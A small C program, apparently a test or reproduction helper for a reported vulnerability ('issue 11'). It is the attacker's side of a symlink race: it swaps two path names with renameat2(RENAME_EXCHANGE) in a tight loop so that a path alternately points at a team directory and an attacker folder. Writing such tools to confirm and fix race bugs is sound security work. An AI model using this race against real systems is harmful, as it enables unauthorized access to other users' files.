/* The attacker's half of the --db race (issue 11 item 1): exchanges two
 * names with renameat2(RENAME_EXCHANGE) as fast as it can, so that a path
 * through one of them is a symlink to the team directory at one moment and
 * the attacker's own folder the next.  Runs until killed, or for
 * --count N exchanges; prints how many it made.
 *
 * usage: swap_race A B [--count N] */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	if (argc != 3 && !(argc == 5 && strcmp(argv[3], "--count") == 0)) {
		fprintf(stderr, "usage: swap_race A B [--count N]\n");
		return 2;
	}
	long long limit = argc == 5 ? atoll(argv[4]) : -1, n = 0;
	struct sigaction sa = {.sa_handler = on_term};
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	while (!stop && (limit < 0 || n < limit)) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) !=
		    0) {
			fprintf(stderr, "swap_race: renameat2: %s\n", strerror(errno));
			return 1;
		}
		n++;
	}
	printf("%lld\n", n);
	return 0;
}
